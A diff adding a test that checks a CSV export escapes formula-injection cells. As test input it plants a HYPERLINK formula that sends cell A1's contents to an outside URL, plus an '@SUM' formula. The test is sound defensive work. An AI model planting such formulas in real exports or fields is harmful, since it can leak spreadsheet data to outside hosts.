@@ -181,6 +181,29 @@ def test_csv_export_has_one_figure_per_row(client, world):
     )
 
 
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, carta, complaint_officer):
+    import csv
+    import io
+
+    carta.assistenza.title = '=HYPERLINK("https://example.org/?"&A1,"Apri")'
+    carta.assistenza.save()
+    carta.attivazione.unit = "@SUM(A1:A9)"
+    carta.attivazione.save()
+    with time_machine.travel(NOW, tick=False):
+        services.record_measurement(
+            actor=complaint_officer, commitment=carta.attivazione, period="2026-Q1", value="-3"
+        )
+        response = client.get("/valuta-e-segnala/impegni.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    measured = [row for row in rows if row[3].startswith("impegno")]
+    assert measured, rows
+    service, value, unit = measured[0][1], measured[0][4], measured[0][6]
+    assert service == "'" + carta.assistenza.title
+    assert unit == "'@SUM(A1:A9)"
+    assert value == "-3.00"  # a negative number stays a number
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
+
+
 def test_staff_records_a_measurement_through_the_api(api_as, complaint_officer, carta):
     client = api_as(complaint_officer)
     response = client.post(
